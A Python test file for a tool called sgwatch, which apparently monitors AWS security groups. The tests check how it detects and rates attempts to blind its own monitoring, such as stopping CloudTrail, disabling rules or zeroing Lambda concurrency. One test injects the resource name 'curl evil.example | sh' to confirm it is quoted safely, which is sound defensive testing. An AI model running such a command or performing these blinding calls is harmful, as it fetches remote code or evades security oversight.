"""Tamper detection in the core: every watched call that can blind the monitor, on the records of
tests/fixtures/tamper (provenance in its README), judged as the function judges them (sgwatch's exact resources) and as
the CLI does (a guess from the stack name); the policy lowers a tamper verdict only for a trusted principal."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest
from sgwatch.core.classify import DEFAULT_SETTINGS, Classification, classify
from sgwatch.core.enrich import apply_trail_facts
from sgwatch.core.policy import apply_policy, load_policy
from sgwatch.core.rules import RULES, Family
from sgwatch.core.severity import Severity
from sgwatch.core.tamper import (
    TAMPER_CALLS,
    Blinding,
    Ownership,
    OwnResources,
    TrailFacts,
    guard_pattern,
    is_watched_name,
    resource_name,
    watched_call,
)

from tests.conftest import FIXTURES

TAMPER = FIXTURES / "tamper"

#: sgwatch's resources as its stack passes them to the function (the fixtures' README names them).
DETECTION_RULE = "sgwatch-DetectionRule5A1B2C3D-1Q2W3E4R5T6Y"
EXACT = OwnResources(
    stack_name="sgwatch",
    names=frozenset(
        {
            DETECTION_RULE,
            "sgwatch-GuardRule9F8E7D6C-7U8I9O0P1A2S",
            "sgwatch-ProcessorFunction3C4D5E6F-Z9Y8X7W6V5U4",
            "sgwatch-BufferQueue7A8B9C0D-AbCdEfGhIjKl",
            "1234abcd-12ab-34cd-56ef-1234567890ab",
            "sgwatch-AlertTopic2B3C4D5E-MnOpQrStUvWx",
            "sgwatch",
            "sgwatch-members",
        }
    ),
    guess=False,
)

#: file -> (severity, rule id) as the function judges it; NONE: not sgwatch's, no verdict.
EXPECTED: dict[str, tuple[Severity, str]] = {
    "cloudtrail__stop_logging.json": (Severity.CRITICAL, "monitor-stopped"),
    "cloudtrail__stop_logging__denied.json": (Severity.MEDIUM, "tamper-denied"),
    "cloudtrail__delete_trail.json": (Severity.CRITICAL, "monitor-stopped"),
    "cloudtrail__put_event_selectors__write_only_false_basic.json": (Severity.CRITICAL, "monitor-stopped"),
    "cloudtrail__put_event_selectors__exclude_management.json": (Severity.CRITICAL, "monitor-stopped"),
    "cloudtrail__put_event_selectors__advanced_excludes_ec2.json": (Severity.CRITICAL, "monitor-stopped"),
    "cloudtrail__put_event_selectors__harmless.json": (Severity.INFO, "monitor-setting-changed"),
    "cloudtrail__update_trail__single_region.json": (Severity.HIGH, "monitor-weakened"),
    "cloudtrail__update_trail__no_global_events.json": (Severity.HIGH, "monitor-weakened"),
    "cloudtrail__update_trail__harmless.json": (Severity.INFO, "monitor-setting-changed"),
    "cloudtrail__start_logging.json": (Severity.INFO, "monitor-restored"),
    "cloudtrail__create_trail.json": (Severity.INFO, "monitor-restored"),
    "config__stop_configuration_recorder.json": (Severity.HIGH, "monitor-weakened"),
    "config__delete_configuration_recorder.json": (Severity.HIGH, "monitor-weakened"),
    "config__delete_delivery_channel.json": (Severity.HIGH, "monitor-weakened"),
    "config__put_configuration_recorder__drops_security_groups.json": (Severity.HIGH, "monitor-weakened"),
    "config__put_configuration_recorder__keeps_security_groups.json": (Severity.INFO, "monitor-setting-changed"),
    "config__start_configuration_recorder.json": (Severity.INFO, "monitor-restored"),
    "events__disable_rule__sgwatch.json": (Severity.CRITICAL, "monitor-stopped"),
    "events__disable_rule__other.json": (Severity.NONE, ""),
    "events__delete_rule__sgwatch.json": (Severity.CRITICAL, "monitor-stopped"),
    "events__remove_targets__sgwatch.json": (Severity.CRITICAL, "monitor-stopped"),
    "events__put_rule__sgwatch_disabled.json": (Severity.CRITICAL, "monitor-stopped"),
    "events__put_rule__sgwatch_pattern_changed.json": (Severity.CRITICAL, "monitor-stopped"),
    "events__enable_rule__sgwatch.json": (Severity.INFO, "monitor-restored"),
    "events__disable_rule__sgwatch__denied.json": (Severity.MEDIUM, "tamper-denied"),
    "lambda__delete_function__sgwatch.json": (Severity.CRITICAL, "monitor-stopped"),
    "lambda__put_function_concurrency__sgwatch_zero.json": (Severity.CRITICAL, "monitor-stopped"),
    "lambda__put_function_concurrency__sgwatch_ten.json": (Severity.INFO, "monitor-setting-changed"),
    "lambda__put_function_concurrency__other_zero.json": (Severity.NONE, ""),
    "lambda__delete_event_source_mapping__sgwatch.json": (Severity.CRITICAL, "monitor-stopped"),
    "lambda__update_event_source_mapping__sgwatch_disabled.json": (Severity.CRITICAL, "monitor-stopped"),
    "lambda__update_function_code__sgwatch.json": (Severity.HIGH, "monitor-weakened"),
    "lambda__update_function_configuration__sgwatch.json": (Severity.HIGH, "monitor-weakened"),
    "lambda__put_function_concurrency__sgwatch_zero__denied.json": (Severity.MEDIUM, "tamper-denied"),
    "kms__disable_key__sgwatch.json": (Severity.CRITICAL, "monitor-stopped"),
    "kms__schedule_key_deletion__sgwatch.json": (Severity.CRITICAL, "monitor-stopped"),
    "kms__disable_key__other.json": (Severity.NONE, ""),
    "sns__delete_topic__sgwatch.json": (Severity.CRITICAL, "monitor-stopped"),
    "sns__unsubscribe__sgwatch.json": (Severity.HIGH, "monitor-weakened"),
    "sns__set_subscription_attributes__sgwatch_filter.json": (Severity.HIGH, "monitor-weakened"),
    "sns__delete_topic__other.json": (Severity.NONE, ""),
    "sqs__purge_queue__sgwatch.json": (Severity.HIGH, "monitor-weakened"),
    "sqs__delete_queue__sgwatch.json": (Severity.HIGH, "monitor-weakened"),
    "sqs__set_queue_attributes__sgwatch.json": (Severity.HIGH, "monitor-weakened"),
    "sqs__purge_queue__other.json": (Severity.NONE, ""),
    "cloudformation__delete_stack__sgwatch.json": (Severity.HIGH, "monitor-weakened"),
    "cloudformation__update_stack__sgwatch.json": (Severity.HIGH, "monitor-weakened"),
    "cloudformation__delete_stack__other.json": (Severity.NONE, ""),
    "cloudformation__delete_stack_set__sgwatch.json": (Severity.HIGH, "monitor-weakened"),
}


def record(name: str) -> Any:
    return json.loads((TAMPER / name).read_text())


def judged(name: str, own: OwnResources = EXACT) -> Classification:
    settings = replace(DEFAULT_SETTINGS, own=own)
    return classify(record(name), settings=settings)


def test_every_fixture_has_an_expectation_and_every_expectation_a_fixture() -> None:
    assert sorted(path.name for path in TAMPER.glob("*.json")) == sorted(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_tamper_record_gets_its_verdict(name: str) -> None:
    severity, rule = EXPECTED[name]
    result = judged(name)
    assert not result.error
    assert result.severity is severity
    if severity is Severity.NONE:
        assert not result.watched and not result.verdicts  # another team's resource: not sgwatch's business
        return
    assert result.tamper is not None and result.record is None
    assert [verdict.rule.id for verdict in result.verdicts] == [rule]
    assert result.tamper.ownership in (Ownership.ANY, Ownership.OWN)


@pytest.mark.parametrize(
    "name", [name for name, (severity, _) in EXPECTED.items() if severity >= Severity.HIGH and "denied" not in name]
)
def test_a_blinding_alert_says_what_it_blinds_and_how_to_undo_it(name: str) -> None:
    result = judged(name)
    assert result.tamper is not None and result.tamper.blinding is not None
    (verdict,) = result.verdicts
    assert verdict.why == result.tamper.blinding.blinds
    assert verdict.undo  # a command or a step for every blinding
    assert result.region in verdict.summary and result.actor in verdict.summary
    document = result.to_dict()
    assert document["resource"]["sgwatchOwn"] in ("own", "any")
    assert document["findings"][0]["undo"] == verdict.undo


def test_stopped_trail_reads_as_the_issue_states_it() -> None:
    (verdict,) = judged("cloudtrail__stop_logging.json").verdicts
    assert verdict.summary.startswith("CloudTrail trail org-trail stopped logging in eu-west-1 by ")
    assert verdict.why == "security-group changes in every region it covered are no longer seen"
    assert verdict.undo == (
        "aws cloudtrail start-logging --name arn:aws:cloudtrail:eu-west-1:111122223333:trail/org-trail"
        " --region eu-west-1"
    )


def test_undo_commands_quote_what_the_record_says() -> None:
    hostile = record("events__disable_rule__sgwatch.json")
    hostile["requestParameters"]["name"] = "sgwatch-x; curl evil.example | sh"
    (verdict,) = classify(hostile).verdicts
    assert "enable-rule --name 'sgwatch-x; curl evil.example | sh' --region" in verdict.undo


def test_the_cli_guesses_by_the_stack_name_and_says_so() -> None:
    guessed = judged("events__disable_rule__sgwatch.json", own=OwnResources(stack_name="sgwatch"))
    assert guessed.severity is Severity.CRITICAL
    assert guessed.tamper is not None and guessed.tamper.ownership is Ownership.GUESSED
    assert "(sgwatch's by a guess: its name starts with 'sgwatch')" in guessed.verdicts[0].summary
    other_stack = judged("events__disable_rule__sgwatch.json", own=OwnResources(stack_name="monitor"))
    assert other_stack.severity is Severity.NONE and not other_stack.watched


def test_a_key_id_carries_no_name_so_only_the_function_knows_its_key() -> None:
    assert judged("kms__disable_key__sgwatch.json", own=OwnResources()).severity is Severity.NONE
    assert judged("kms__disable_key__sgwatch.json").severity is Severity.CRITICAL


def test_a_denied_call_without_parameters_is_judged_by_the_worst_it_could_do_and_says_so() -> None:
    result = judged("lambda__put_function_concurrency__sgwatch_zero__denied.json")
    assert result.tamper is not None and result.tamper.assumed_worst
    assert result.tamper.resource.endswith(
        ":function:sgwatch-ProcessorFunction3C4D5E6F-Z9Y8X7W6V5U4"
    )  # from the message
    assert "the record does not give its parameters" in result.verdicts[0].summary


def test_put_rule_with_sgwatchs_own_pattern_is_not_a_rewrite() -> None:
    changed = record("events__put_rule__sgwatch_pattern_changed.json")
    same = replace(EXACT, rule_patterns=((DETECTION_RULE, changed["requestParameters"]["eventPattern"]),))
    assert judged("events__put_rule__sgwatch_pattern_changed.json", own=same).severity is Severity.INFO
    assert judged("events__put_rule__sgwatch_pattern_changed.json").severity is Severity.CRITICAL


def test_lambda_names_are_read_without_their_api_version_and_only_those() -> None:
    stop = record("lambda__delete_function__sgwatch.json")
    assert stop["eventName"] == "DeleteFunction20150331"
    assert watched_call(stop) is not None
    for near in ("DeleteFunctionConcurrency20171031", "DeleteFunctionUrlConfig20211031", "DeleteFunction2015"):
        assert watched_call({**stop, "eventName": near}) is None
    assert watched_call({**stop, "eventSource": "states.amazonaws.com"}) is None  # same name, another service


def test_the_readers_first_test_lets_every_watched_name_through() -> None:
    for path in TAMPER.glob("*.json"):
        assert is_watched_name(record(path.name)["eventName"])
    assert not is_watched_name("GetObject") and not is_watched_name(None)


def test_resource_names_are_read_from_arns_and_urls() -> None:
    assert resource_name("arn:aws:lambda:eu-west-1:1:function:fn:$LATEST") == "fn"
    assert resource_name("arn:aws:cloudformation:eu-west-1:1:stack/sgwatch/4e5f") == "sgwatch"
    assert resource_name("arn:aws:cloudformation:eu-west-1:1:stackset/sgwatch-members:9a") == "sgwatch-members"
    assert resource_name("arn:aws:events:eu-west-1:1:rule/bus/name") == "name"
    assert resource_name("https://sqs.eu-west-1.amazonaws.com/1/queue") == "queue"
    assert resource_name("arn:aws:sns:eu-west-1:1:topic") == "topic"


def test_every_blinding_is_reachable_by_a_rule_and_the_tamper_families_end_with_a_catch_all() -> None:
    tamper_rules = [rule for rule in RULES if rule.family is Family.TAMPER]
    assert {rule.severity for rule in tamper_rules} >= {blinding.severity for blinding in Blinding}
    assert tamper_rules[-1].id == "monitor-setting-changed"


def test_the_guard_pattern_names_every_call_from_its_own_service() -> None:
    pattern = guard_pattern()
    assert pattern["source"] == sorted({"aws." + call.source.split(".")[0] for call in TAMPER_CALLS})
    named = {name if isinstance(name, str) else name["prefix"] for name in pattern["detail"]["eventName"]}
    assert named == {call.name for call in TAMPER_CALLS}
    assert {"prefix": "PutFunctionConcurrency"} in pattern["detail"]["eventName"]


POLICY = """
[[trusted_principal]]
arn = "arn:aws:iam::111122223333:role/PlatformAdmin"
reason = "the platform team deploys sgwatch"

[[mute]]
account = "111122223333"
reason = "a sandbox account"

[[mute]]
group_id = "sg-0aaa1111bbbb2222c"
reason = "a lab group"
"""


def test_policy_lowers_a_tamper_verdict_only_for_a_trusted_principal_and_never_mutes_it() -> None:
    policy = load_policy(POLICY)
    stopped = apply_policy(judged("cloudtrail__stop_logging.json"), policy)
    assert stopped.severity is Severity.HIGH  # trusted: one level down, the mute of the account ignored
    (lowering,) = stopped.verdicts[0].lowered_by
    assert lowering.action.value == "trusted" and lowering.line == 2
    untrusted = record("cloudtrail__stop_logging.json")
    untrusted["userIdentity"]["sessionContext"]["sessionIssuer"]["arn"] = "arn:aws:iam::111122223333:role/Other"
    untrusted["userIdentity"]["arn"] = "arn:aws:sts::111122223333:assumed-role/Other/mallory"
    assert apply_policy(classify(untrusted), policy).severity is Severity.CRITICAL


def _trail(name: str, *, multi_region: bool = True, logging: bool = True, writes: bool = True) -> TrailFacts:
    return TrailFacts(name, f"arn:aws:cloudtrail:eu-west-1:111122223333:trail/{name}", multi_region, logging, writes)


def test_another_trail_that_still_records_lowers_a_stopped_trail_to_high_and_says_which() -> None:
    stopped = judged("cloudtrail__stop_logging.json")
    lowered = apply_trail_facts(stopped, [_trail("org-trail", logging=False), _trail("security-trail")])
    (verdict,) = lowered.verdicts
    assert lowered.severity is Severity.HIGH and verdict.rule.id == "monitor-weakened"
    assert verdict.summary.endswith(
        "; trail security-trail (multi-region) still records management write events, so changes are still seen"
    )
    assert verdict.undo == stopped.verdicts[0].undo


@pytest.mark.parametrize(
    "others",
    [
        [],
        [_trail("org-trail")],  # the stopped trail itself, described before the call took effect
        [_trail("regional", multi_region=False)],
        [_trail("stopped-too", logging=False)],
        [_trail("reads-only", writes=False)],
    ],
    ids=["no other trail", "the same trail", "regional", "not logging", "no writes"],
)
def test_only_a_multi_region_trail_that_logs_writes_lowers_it(others: list[TrailFacts]) -> None:
    assert apply_trail_facts(judged("cloudtrail__stop_logging.json"), others).severity is Severity.CRITICAL


def test_trail_facts_never_touch_what_is_not_a_stopped_trail() -> None:
    for name in ("cloudtrail__update_trail__single_region.json", "events__disable_rule__sgwatch.json",
                 "cloudtrail__stop_logging__denied.json"):  # fmt: skip
        result = judged(name)
        assert apply_trail_facts(result, [_trail("security-trail")]) == result
